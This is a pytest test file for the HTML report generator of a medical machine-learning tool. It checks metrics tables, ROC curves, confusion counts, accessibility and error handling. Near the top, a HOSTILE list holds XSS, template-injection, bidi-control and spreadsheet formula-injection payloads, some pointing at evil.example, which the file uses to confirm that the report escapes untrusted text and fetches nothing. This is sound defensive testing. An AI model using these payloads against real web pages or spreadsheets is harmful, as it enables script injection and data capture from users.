"""The report says what the run folder says, escapes all of it, and asks nobody for anything."""

from __future__ import annotations

import base64
import csv
import hashlib
import html.parser
import json
import re
from pathlib import Path

import numpy as np
import pytest

from medfusion.data.visible_text import visible
from medfusion.errors import InputError, MedFusionError, RunError
from medfusion.report import plotly_bundle, plotly_js, report_html, write_report
from medfusion.report.metric_names import label

HOSTILE = (
    "<script>window.X=1</script>",
    "</script><script>window.X=1</script>",
    "<img src=x onerror=window.X=1>",
    "<svg onload=window.X=1>",
    '"><script>window.X=1</script>',
    "'><img src=x onerror=window.X=1>",
    '" onmouseover="window.X=1',
    "' autofocus onfocus='window.X=1",
    "javascript:window.X=1",
    '<a href="javascript:window.X=1">a</a>',
    '<iframe srcdoc="<script>parent.X=1</script>">',
    "<body onload=window.X=1>",
    "<style>@import 'http://evil.example/a.css';</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<object data=http://evil.example/a>",
    "<form action=http://evil.example><input name=a>",
    "<!--<script>window.X=1</script>-->",
    "--><script>window.X=1</script>",
    "]]><script>window.X=1</script>",
    "</style><script>window.X=1</script>",
    "</title><script>window.X=1</script>",
    "</textarea><script>window.X=1</script>",
    "{{ 7 * 7 }}",
    "{% for x in y %}{% endfor %}",
    "${window.X=1}",
    "%{x}%{customdata}",
    "`;window.X=1;//",
    '";window.X=1;//',
    "';window.X=1;//",
    '\\";window.X=1;//',
    "&lt;script&gt;window.X=1&lt;/script&gt;",
    "&#60;script&#62;window.X=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.X=1",
    "<ScRiPt/src=//evil.example/a.js>",
    '<math><mi xlink:href="data:x,<script>window.X=1</script>">',
    "a\u2028window.X=1\u2029b",
    "\u202e<b>right to left</b>",
    "=cmd|'/c calc'!A0",
)

TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "a",
    "nav",
    "p",
    "ol",
    "li",
    "main",
    "header",
    "h1",
    "h2",
    "h3",
    "span",
    "dl",
    "div",
    "dt",
    "dd",
    "data",
    "small",
    "section",
    "figure",
    "figcaption",
    "b",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "ul",
    "details",
    "summary",
    "pre",
    "code",
    "sup",
    "footer",
    "script",
}


class Page(html.parser.HTMLParser):
    """Tags, texts and scripts of a page, as a browser's parser would see them."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.text = ""
        self._open: dict[str, str | None] | None = None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self._open = dict(attrs)
            self.scripts.append((self._open, ""))

    def handle_endtag(self, tag):
        if tag == "script":
            self._open = None

    def handle_data(self, data):
        if self._open is not None:
            attributes, text = self.scripts[-1]
            self.scripts[-1] = (attributes, text + data)
        else:
            self.text += data

    def plots(self) -> list[dict]:
        return [json.loads(text) for attributes, text in self.scripts if attributes]

    def attributes(self, name: str) -> list[str | None]:
        return [attributes[name] for _, attributes in self.tags if name in attributes]


def table(text: str, name: str) -> list[list[str]]:
    """Return the rows of a table; each cell as its HTML."""
    inner = re.search(
        rf'<figure class="table[^"]*" id="table-{name}">(.*?)</figure>', text, re.DOTALL
    )
    assert inner, name
    body = inner[1].partition("<tbody>")[2].partition("</tbody>")[0]
    rows = re.findall(r"<tr.*?>(.*?)</tr>", body, re.DOTALL)
    return [re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.DOTALL) for row in rows]


def words(cell: str) -> str:
    page = Page(re.sub(r"<(small|sup)>.*?</\1>", "", cell, flags=re.DOTALL))
    return " ".join(page.text.split())


def number(text: str) -> float:
    return float(text.replace("\N{MINUS SIGN}", "-"))


def test_the_metrics_table_is_metrics_json(make_run):
    for kind in ("binary", "multiclass", "regression"):
        run = make_run(kind, settings={"prevalence": 0.05} if kind == "binary" else {})
        unit = "years" if kind == "regression" else None
        names = {
            label(name, kind=kind, unit=unit): name
            for name in run.metrics["test"]
            if "[" not in name
        }
        rows = table(report_html(run), "metrics")
        assert {words(row[0]) for row in rows} == set(names)
        for row in rows:
            for split, cell in zip(("train", "val", "test"), row[1:4], strict=True):
                said = run.metrics[split][names[words(row[0])]]
                if said["value"] is None:
                    assert words(cell) == "not estimable"
                    continue
                assert float(re.search(r'value="([^"]+)"', cell)[1]) == said["value"]
                shown = re.findall(r"\N{MINUS SIGN}?\d+(?:\.\d+)?", words(cell))
                expected = [said["value"], *(said["ci"] or [])]
                assert [number(one) for one in shown] == pytest.approx(expected, abs=5.1e-4)


def test_a_metric_that_is_not_estimable_says_so_with_its_reason(make_run):
    run = make_run(n=12)
    text = report_html(run)
    assert all(words(row[3]) == "not estimable" for row in table(text, "metrics"))
    reason = run.metrics["test"]["auc"]["note"].partition(": ")[2]
    assert reason in Page(text).text
    assert "roc" not in [plot.get("name") for plot in Page(text).plots()]


@pytest.mark.parametrize("signal", [0.0, 0.7, 3.0])
def test_the_curves_drawn_have_the_areas_of_metrics_json(make_run, signal):
    run = make_run(signal=signal, n=700)
    curves = {}
    for plot in Page(report_html(run)).plots():
        title = plot["layout"]["xaxis"]["title"]["text"]
        for trace in plot["data"]:
            if trace.get("name"):
                curves[title.split()[0], trace["name"].split(":")[0]] = trace
    for split, name in (("val", "Validation"), ("test", "Test")):
        roc, recall = curves["1", name], curves["Recall", name]
        area = np.trapezoid(roc["y"], roc["x"])
        assert area == pytest.approx(run.metrics[split]["auc"]["value"], abs=1e-4)
        steps = np.diff(recall["x"]) * np.array(recall["y"][1:])  # as drawn by shape "vh"
        expected = run.metrics[split]["average_precision"]["value"]
        assert recall["line"]["shape"] == "vh"
        assert steps.sum() == pytest.approx(expected, abs=2e-3)


def test_long_curves_are_thinned_but_keep_their_area(make_run):
    run = make_run(n=12_000, signal=0.7)
    text = report_html(run)
    trace = next(
        trace
        for plot in Page(text).plots()
        for trace in plot["data"]
        if str(trace.get("name")).startswith("Test: ")
    )
    assert len(trace["x"]) <= 500
    area = np.trapezoid(trace["y"], trace["x"])
    assert area == pytest.approx(run.metrics["test"]["auc"]["value"], abs=2e-3)
    assert len(text.encode()) < 2_500_000


def test_confusion_and_operating_points_are_counts_of_predictions(make_run):
    run = make_run()
    text = report_html(run)
    for split in ("val", "test"):
        threshold = run.metrics[split]["threshold"]["value"]
        rows = [row for row in run.predictions if row["split"] == split]
        counts = [[0, 0], [0, 0]]
        for row in rows:
            called = float(row["prob_malignant"]) >= threshold
            counts[row["target"] == "malignant"][called] += 1
        shown = [[int(words(c)) for c in row[1:]] for row in table(text, f"confusion-{split}")]
        assert shown == counts
        for row in table(text, f"operating-points-{split}"):
            cut, sensitivity, specificity = (
                float(re.search(r'value="([^"]+)"', cell)[1]) for cell in row[1:4]
            )
            events = [float(r["prob_malignant"]) for r in rows if r["target"] == "malignant"]
            others = [float(r["prob_malignant"]) for r in rows if r["target"] != "malignant"]
            assert sensitivity == pytest.approx(np.mean(np.array(events) >= cut))
            assert specificity == pytest.approx(np.mean(np.array(others) < cut))


def test_thresholds_never_depend_on_the_test_split(make_run):
    run = make_run()
    before = [row[1] for row in table(report_html(run), "operating-points-test")]
    path = run.path / "predictions.csv"
    with path.open(encoding="utf-8", newline="") as file:
        header, *rows = csv.reader(file)
    for row in rows:
        if row[1] == "test":
            row[3:] = row[3:][::-1]
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([header, *rows])
    assert [row[1] for row in table(report_html(run), "operating-points-test")] == before


def test_repeated_rows_get_no_wilson_interval(make_run):
    rows = table(report_html(make_run(repeated=True)), "operating-points-test")
    assert any("(" in words(cell) for cell in rows[0][2:])  # by group, from metrics.json
    assert not any("(" in words(cell) for row in rows[1:] for cell in row[2:])


def test_a_multiclass_run_has_its_classes(make_run):
    run = make_run("multiclass")
    for row in table(report_html(run), "classes-test"):
        name = words(row[0])
        value = float(re.search(r'value="([^"]+)"', row[1])[1])
        assert value == run.metrics["test"][f"auc[{name}]"]["value"]


def test_agreement_of_a_regression(make_run):
    run = make_run("regression")
    error = [
        float(r["value"]) - float(r["target"]) for r in run.predictions if r["split"] == "test"
    ]
    mean, spread = np.mean(error), 1.959964 * np.std(error, ddof=1)
    text = Page(report_html(run)).text.replace("\N{MINUS SIGN}", "-")
    said = f"mean difference {mean:.3f}, 95% limits of agreement {mean - spread:.3f} to {mean + spread:.3f}"
    assert said in text


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_text_of_the_data_becomes_markup(make_run, hostile_names, hostile):
    kind = ("binary", "multiclass", "regression")[HOSTILE.index(hostile) % 3]
    names = hostile_names(hostile, kind)
    text = report_html(make_run(kind, names, n=90, state="failed"))
    page = Page(text)
    assert {tag for tag, _ in page.tags} <= TAGS
    assert not [name for _, attributes in page.tags for name in attributes if name.startswith("on")]
    assert all(link.startswith("#") for link in page.attributes("href"))
    assert not page.attributes("src")
    assert len([1 for attributes, _ in page.scripts if not attributes]) == 2
    assert "<" not in "".join(body for attributes, body in page.scripts if attributes)
    for said in (names.reason, names.numeric, names.levels[0], names.message):
        assert visible(said) in page.text


def test_plotly_shows_hostile_names_as_they_are(make_run, hostile_names):
    names = hostile_names("<b>%{x}</b><a href='javascript:1'>", "multiclass")
    said = [
        trace["name"]
        for plot in Page(report_html(make_run("multiclass", names))).plots()
        for trace in plot["data"]
        if "name" in trace
    ]
    assert said
    assert not [name for name in said if "<" in name or "%{" in name]


def test_no_name_can_turn_the_numbers_beside_it(make_run, hostile_names):
    text = report_html(make_run("multiclass", hostile_names("a\u202eb\u2067c", "multiclass"), n=90))
    assert "a\ufffdb\ufffdc" in text
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", text)


def test_half_a_surrogate_pair_can_be_written(make_run, tmp_path):
    run = make_run()
    path = run.path / "cohort.json"
    content = path.read_text(encoding="utf-8").replace("image cannot be read", "a\\ud800b")
    path.write_text(content, encoding="utf-8")
    assert "a\ufffdb" in write_report(run, tmp_path / "a.html").read_text(encoding="utf-8")


def test_the_policy_names_exactly_the_scripts_by_hash(make_run):
    page = Page(report_html(make_run()))
    policy = next(a["content"] for _, a in page.tags if a.get("http-equiv"))
    rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
    assert rules["default-src"] == "'none'"
    hashes = {
        f"'sha256-{base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()}'"
        for attributes, body in page.scripts
        if not attributes
    }
    assert set(rules["script-src"].split()) == hashes
    assert not [rule for rule in rules.values() if "http" in rule or "*" in rule]


def test_nothing_is_fetched(make_run):
    page = Page(report_html(make_run()))
    assert not {"link", "img", "iframe", "object", "base"} & {tag for tag, _ in page.tags}
    style = (Path(plotly_bundle.__file__).parent / "templates/report.css").read_text()
    assert not re.search(r"url\(|@import", style)


def test_the_page_can_be_read_without_eyes(make_run):
    page = Page(report_html(make_run()))
    plots = [a for tag, a in page.tags if tag == "div" and a.get("class") == "plot"]
    assert plots
    assert all(a["role"] == "img" and a["aria-label"] for a in plots)
    assert all("scope" in a for tag, a in page.tags if tag == "th")
    assert [tag for tag, _ in page.tags].count("h1") == 1
    ids = page.attributes("id")
    assert len(ids) == len(set(ids))
    assert {link[1:] for link in page.attributes("href")} <= set(ids)
    for plot in page.plots():
        axes = [
            axis for name, axis in plot["layout"].items() if name.startswith(("xaxis", "yaxis"))
        ]
        assert all(axis["title"]["text"] for axis in axes)


@pytest.mark.parametrize(
    ("state", "parts"),
    [
        ("created", {"prepared": False, "trained": False}),
        ("failed", {"trained": False}),
        ("stopped", {}),
    ],
)
def test_a_run_that_is_not_finished_says_what_is_missing(make_run, state, parts):
    page = Page(report_html(make_run(evaluated=False, state=state, **parts)))
    assert "Not evaluated yet." in page.text
    assert "has not been evaluated yet" in page.text
    assert ("No epoch is complete yet." in page.text) == ("trained" in parts)
    assert ("The data were not read yet." in page.text) == ("prepared" in parts)


def test_a_failed_check_is_said_first(make_run):
    text = Page(report_html(make_run())).text
    assert text.index("A data check failed: target leakage") < text.index("On the test split")
    assert text.index("FAIL") < text.index("WARN") < text.index("PASS")


def test_row_ids_stay_out_of_the_report(make_run):
    run = make_run()
    text = report_html(run)
    assert "secret-id" not in text
    assert not [row["id"] for row in run.predictions if f">{row['id']}<" in text]


def test_the_same_run_gives_the_same_report(make_run):
    run = make_run()
    assert report_html(run) == report_html(run)


def test_write_report(make_run, tmp_path):
    run = make_run()
    path = write_report(run, tmp_path / "new folder" / "report.html")
    assert path.read_text(encoding="utf-8") == report_html(run)
    assert path.stat().st_size < 2_500_000


@pytest.mark.parametrize(
    ("file", "content", "said"),
    [
        ("metrics.json", '{"test": {"auc": ', "damaged"),
        ("metrics.json", '{"test": {"auc": {"value": "high", "n": 3}}}', "test.auc.value"),
        ("metrics.json", "[]", "damaged"),
        ("cohort.json", "{}", "flow"),
        ("cohort.json", "\x00\xff", "damaged"),
        ("environment.json", "[1]", "damaged"),
        ("status.json", "{", "damaged"),
        ("predictions.csv", "", "missing"),
        ("predictions.csv", "id,split,target\n1,test,benign\n", "prob_"),
        (
            "predictions.csv",
            "id,split,target,prob_benign,prob_malignant\n1,test,benign,high,0\n",
            "record 2",
        ),
        (
            "predictions.csv",
            "id,split,target,prob_benign,prob_malignant\n1,test,benign,nan,0\n",
            "finite",
        ),
        (
            "predictions.csv",
            "id,split,target,prob_benign,prob_malignant\n1,test,other,0.5,0.5\n",
            "other",
        ),
        ("predictions.csv", "id,split,target,prob_a,prob_b\n1,test,a,0.5,0.5\n", "classes"),
        ("experiment.yaml", "{", "experiment.yaml"),
    ],
)
def test_a_damaged_run_is_a_clear_error(make_run, file, content, said):
    run = make_run()
    (run.path / file).write_text(content, encoding="utf-8")
    with pytest.raises(InputError) as caught:
        report_html(run)
    assert file in str(caught.value)
    assert said in str(caught.value)
    if file != "experiment.yaml":
        assert isinstance(caught.value, RunError)


def test_events_damaged_by_hand_cost_only_themselves(make_run):
    run = make_run()
    with (run.path / "events.jsonl").open("a", encoding="utf-8") as file:
        file.write('{"seq": 9999, "kind": "checks", "checks": [{"name": 1}, 7]}\nrubbish\n')
    assert "Learning curves" in report_html(run)


def test_a_missing_bundle_says_what_to_do(monkeypatch, tmp_path):
    monkeypatch.setattr(plotly_bundle, "BUNDLE", tmp_path / "none.js")
    plotly_js.cache_clear()
    try:
        with pytest.raises(MedFusionError, match="make install"):
            plotly_js()
    finally:
        plotly_js.cache_clear()
